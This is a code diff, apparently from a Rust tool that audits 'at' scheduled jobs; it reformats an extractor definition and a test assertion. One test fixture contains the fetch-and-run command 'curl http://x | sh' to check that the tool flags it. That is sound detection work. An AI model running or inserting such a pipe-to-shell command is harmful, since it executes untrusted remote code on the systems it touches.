@@ -28,11 +28,7 @@ use crate::model::time::Time;
 
 /// The row.
 pub const EXTRACTOR: Extractor = Extractor {
-    interest: Interest {
-        id: "autostart-at",
-        sentence: "Jobs that at runs once, later.",
-        ask: Ask::Starts("at"),
-    },
+    interest: Interest { id: "autostart-at", sentence: "Jobs that at runs once, later.", ask: Ask::Starts("at") },
     cap: CAP,
     read,
 };
@@ -143,7 +139,10 @@ mod tests {
     fn jobs_are_told_without_their_environment() {
         let new = format!("{HEAD}${{SHELL:-/bin/sh}} << 'marcinDELIMITER1'\n/tmp/x\n\nmarcinDELIMITER1\n");
         let rows = told(&new);
-        assert_eq!(rows, ["At a0000701c2b3f4 | runs /tmp/x | when once, 2026-02-27T23:48:00Z | as mia | Program /tmp/x Temporary"]);
+        assert_eq!(
+            rows,
+            ["At a0000701c2b3f4 | runs /tmp/x | when once, 2026-02-27T23:48:00Z | as mia | Program /tmp/x Temporary"]
+        );
         let old = format!("{HEAD}curl http://x | sh\n");
         assert!(told(&old)[0].ends_with("| FetchesAndRuns"), "{:?}", told(&old));
         assert!(!format!("{rows:?}").contains("private"));
